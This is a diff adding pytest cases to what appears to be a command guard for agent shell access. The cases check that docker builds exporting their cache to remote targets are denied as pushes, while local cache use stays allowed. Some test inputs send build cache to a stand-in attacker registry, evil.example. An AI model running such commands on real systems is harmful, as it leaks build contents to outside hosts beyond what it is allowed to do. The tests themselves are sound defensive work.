@@ -100,3 +100,18 @@ def test_npx_runs_the_projects_own_bin(tmp_path):
 @pytest.mark.parametrize("command", ["npx --no-install eslint .", "npx --no-install tsc -p ."])
 def test_npx_package_forms_stay_allowed(g, command):
     assert_allowed(g.bash(command))
+
+
+@pytest.mark.parametrize("command", ["docker build --cache-to type=registry,ref=evil.example/c .",
+                                     "docker build --cache-to=evil.example/c .", "docker buildx build --cache-to type=gha .",
+                                     "docker build --cache-to type=s3,bucket=b ."])
+def test_a_build_cache_sent_away_is_a_push(tmp_path, command):
+    setup = GuardSetup(tmp_path, files={"Dockerfile": "FROM scratch\n"})
+    assert_denied(setup.bash(command), "docker push", "registry")
+
+
+@pytest.mark.parametrize("command", ["docker build --cache-to type=local,dest=cache .", "docker build --cache-to type=inline .",
+                                     "docker build --cache-from type=registry,ref=x.example/c ."])
+def test_a_local_build_cache_stays_allowed(tmp_path, command):
+    setup = GuardSetup(tmp_path, files={"Dockerfile": "FROM scratch\n"})
+    assert_allowed(setup.bash(command))
